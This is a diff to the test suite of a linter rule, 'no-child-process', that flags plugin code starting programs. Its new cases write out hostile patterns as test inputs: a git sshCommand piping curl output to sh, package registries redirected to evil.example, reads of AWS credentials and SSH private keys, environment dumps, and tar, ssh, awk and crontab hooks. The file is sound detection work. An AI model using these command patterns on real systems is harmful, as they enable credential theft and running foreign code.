@@ -30,6 +30,8 @@ tester.run('no-child-process', rule, {
     { code: 'function require(name: string): string;\nfunction require(name: string) { return name; }\nrequire("child_process");', ...cjs, filename: 'a.ts' },
     // Ordinary minified code.
     { code: '!function(e,t){"use strict";var n=e.exec||function(){};t.spawn=n;e.a=t}(this,{});', ...cjs },
+    // An env file in a file that starts no program.
+    { code: 'process.loadEnvFile(".env");', ...cjs },
   ],
   invalid: [
     // A CallSite's getFunction() run through .call or Reflect.apply is the module wrapper: its arguments[1] is require.
@@ -195,5 +197,34 @@ tester.run('no-child-process', rule, {
     { code: CP + 'cp.execSync("zip -r - .", { cwd: where });\ncp.spawnSync("rsync", ["-a", ".", "/srv/out"], { cwd: "/etc" });', ...cjs, errors: [cp(1, 12), folderUse(2, 1), secret(3, 1)] },
     // An ordinary file of a folder that also holds secrets is only the folder use.
     { code: CP + 'cp.execFileSync("cat", ["os-release"], { cwd: "/etc" });', ...cjs, errors: [cp(1, 12), folderUse(2, 1)] },
+    // Round 8 look-alikes (only the load): git settings that are not commands, tar and npm used plainly, the inherited PATH extended, awk and python printing data.
+    { code: CP + 'cp.execFileSync("git", ["-c", "user.name=Bot", "-c", "alias.co=checkout", "-c", "core.pager=less -R", "commit", "-m", "x"]);', ...cjs, errors: [cp(1, 12)] },
+    { code: CP + 'cp.execFileSync("tar", ["-czf", "out.tgz", "-I", "zstd", "--use-compress-program=pigz", "src"]);\ncp.execFileSync("rsync", ["-a", "-e", "ssh -p 2222", "src/", "host:dst"]);', ...cjs, errors: [cp(1, 12)] },
+    { code: CP + 'cp.execFile("npm", ["install"], { env: { ...process.env, PATH: process.env.PATH + ":/usr/local/bin", npm_config_registry: "https://registry.npmjs.org/" } });', ...cjs, errors: [cp(1, 12)] },
+    { code: CP + 'cp.execFileSync("awk", ["{print $1}", "notes.txt"]);\ncp.execFileSync("python3", ["-c", "print(1)"]);\ncp.execFileSync("python3", ["-c", "from os import environ; print(environ[\'HOME\'])"]);', ...cjs, errors: [cp(1, 12), run(3, 1), run(4, 1)] },
+    { code: CP + 'cp.execFileSync("crontab", ["-l"]);\ncp.execFileSync("cat", [], { input: "hello ~ world" });\ncp.execFile("git", ["diff"], { env: { GIT_PAGER: "cat", GIT_EXTERNAL_DIFF: "/usr/bin/difft" } });', ...cjs, errors: [cp(1, 12)] },
+    // A command line handed inside an option value is judged as one: git's command settings, tar's and ssh's hooks, find -exec.
+    { code: CP + 'cp.execFile("git", ["-c", "core.fsmonitor=" + __dirname + "/lib/fsmon.sh", "status"]);', ...cjs, errors: [cp(1, 12), unread(2, 1)] },
+    { code: CP + 'cp.execFileSync("git", ["-c", "alias.st=!sh " + __dirname + "/x", "st"]);\ncp.spawn("git", ["-c", "core.sshCommand=curl -s x.example|sh", "fetch"]);', ...cjs, errors: [cp(1, 12), unread(2, 1), { messageId: 'dangerousRun', line: 3, column: 1 }] },
+    { code: CP + 'const args = ["-c", ["core", "hooksPath"].join(".") + "=" + require("path").join(__dirname, "hooks"), "commit", "-m", "x"];\ncp.execFileSync("git", args);', ...cjs, errors: [cp(1, 12), unread(3, 1)] },
+    { code: CP + 'cp.spawnSync("tar", ["-cf", "/dev/null", "a", "--checkpoint=1", "--checkpoint-action=exec=sh " + __dirname + "/lib/p.sh"]);\ncp.spawnSync("/usr/bin/tar", ["-xf", "a.tar", "--to-command", "./unpack"]);\ncp.spawnSync("bsdtar", ["-cf", "x", "-I./zz", "."]);', ...cjs, errors: [cp(1, 12), unread(2, 1), unread(3, 1), unread(4, 1)] },
+    { code: CP + 'cp.execFileSync("ssh", ["-oProxyCommand=" + __dirname + "/bin/p %h", "host"]);\ncp.execFileSync("find", [".", "-name", "*.md", "-exec", "python3", "tools/x.py", "{}", ";"]);', ...cjs, errors: [cp(1, 12), unread(2, 1), unread(3, 1)] },
+    // Hook variables naming a shipped file run it.
+    { code: CP + 'const path = require("path");\ncp.execFile("git", ["diff"], { env: { PATH: "/usr/bin:/bin", GIT_EXTERNAL_DIFF: path.join(__dirname, "lib", "difftool") } });\ncp.execFile("git", ["log"], { env: { ["GIT_" + "PAGER"]: "./pager.sh" } });', ...cjs, errors: [cp(1, 12), unread(3, 1), unread(4, 1)] },
+    // awk reads its own language: a -f script is foreign, inline text calling system() runs commands.
+    { code: CP + 'cp.execFileSync("awk", ["-f", require("path").join(__dirname, "lib", "w.awk"), "/dev/null"]);\ncp.execFileSync("gawk", ["--file=x.awk"]);\ncp.execFileSync("awk", ["BEGIN{system(ENVIRON[\\"C\\"])}"]);\ncp.execSync("mawk \'BEGIN { \\"id\\" | getline u }\'");', ...cjs, errors: [cp(1, 12), foreign(2, 1), foreign(3, 1), unread(4, 1)] },
+    // Schedulers run their stdin (or file) later: crontab -, at, batch.
+    { code: CP + 'cp.execFileSync("crontab", ["-"], { input: "*/10 * * * * " + job });\ncp.execFileSync("at", ["now + 1 minute"], { input: "sh " + __dirname + "/lib/job\\n" });\ncp.spawnSync("/usr/bin/crontab", [__dirname + "/tab"]);\ncp.execSync("echo x | batch");', ...cjs, errors: [cp(1, 12), unread(2, 1), unread(3, 1), unread(4, 1)] },
+    // A package manager told through env to fetch from another registry.
+    { code: CP + 'cp.execFile("npm", ["install", "--prefix", dir, "notes-helper"], { env: { PATH: "/usr/bin:/bin", npm_config_registry: "http://192.0.2.10/" } });\ncp.execFile("pnpm", ["add", "x"], { env: { NPM_CONFIG_REGISTRY: mirror } });\ncp.execFileSync("pip", ["install", "x"], { env: { PIP_INDEX_URL: "https://evil.example/simple" } });', ...cjs, errors: [cp(1, 12), unread(2, 1), unread(3, 1), unread(4, 1)] },
+    // A PATH that puts a folder the plugin writes (or a relative one) first: the bare-named program is the plugin's.
+    { code: CP + 'exports.activate = (ctx) => { cp.execFile("npm", ["--version"], { env: { PATH: ctx.dataDir + ":/usr/bin:/bin" } }); };\nexports.b = (ctx) => cp.spawn("git", ["status"], { env: { PATH: `${ctx.dataDir}/bin:${process.env.PATH}` } });\ncp.spawn("ls", [], { env: { Path: "node_modules/.bin:/usr/bin" } });\ncp.spawn("ls", [], { env: { PATH: "/tmp/x:/usr/bin" } });', ...cjs, errors: [cp(1, 12), unread(2, 31), unread(3, 22), unread(4, 1), unread(5, 1)] },
+    // A secret path reaching the program through stdin or an env variable.
+    { code: CP + 'const os = require("os"), path = require("path");\ncp.execFileSync("xargs", ["cat"], { input: path.join(os.homedir(), ".aws", "credentials") });\ncp.execSync(\'cat "$F"\', { env: { F: path.join(os.homedir(), ".ssh", "id_ed25519") } });\ncp.exec("tail -n +1 $K", { env: { K: "~/.ss" + "h/id_rsa" } });', ...cjs, errors: [cp(1, 12), secret(3, 1), secret(4, 1), secret(5, 1)] },
+    // Another interpreter printing the whole environment.
+    { code: CP + 'cp.execFileSync("python3", ["-c", "import os,json;print(json.dumps(dict(os.environ)))"]);\ncp.execFileSync("perl", ["-e", "print map {\\"$_=$ENV{$_}\\\\n\\"} keys %ENV"]);\ncp.execFileSync("ruby", ["-e", "puts ENV.to_h"]);\ncp.execSync("python -c \'import os; print(os.environ.copy())\'");', ...cjs, errors: [cp(1, 12), dump(2, 1), dump(3, 1), dump(4, 1), dump(5, 1)] },
+    // process.loadEnvFile is --env-file: in a file that starts programs, what it sets reaches them.
+    { code: 'const path = require("path");\nconst { fork } = require("child_process");\nprocess.loadEnvFile(path.join(__dirname, "lib", "runtime.env"));\nfork(path.join(__dirname, "lib", "worker.js"));', ...cjs, errors: [cp(2, 18), { messageId: 'envFile', line: 3, column: 1 }] },
+    { code: 'const { loadEnvFile } = require("node:process");\nconst cp = require("child_process");\nloadEnvFile();', ...cjs, errors: [cp(2, 12), { messageId: 'envFile', line: 3, column: 1 }] },
   ],
 });
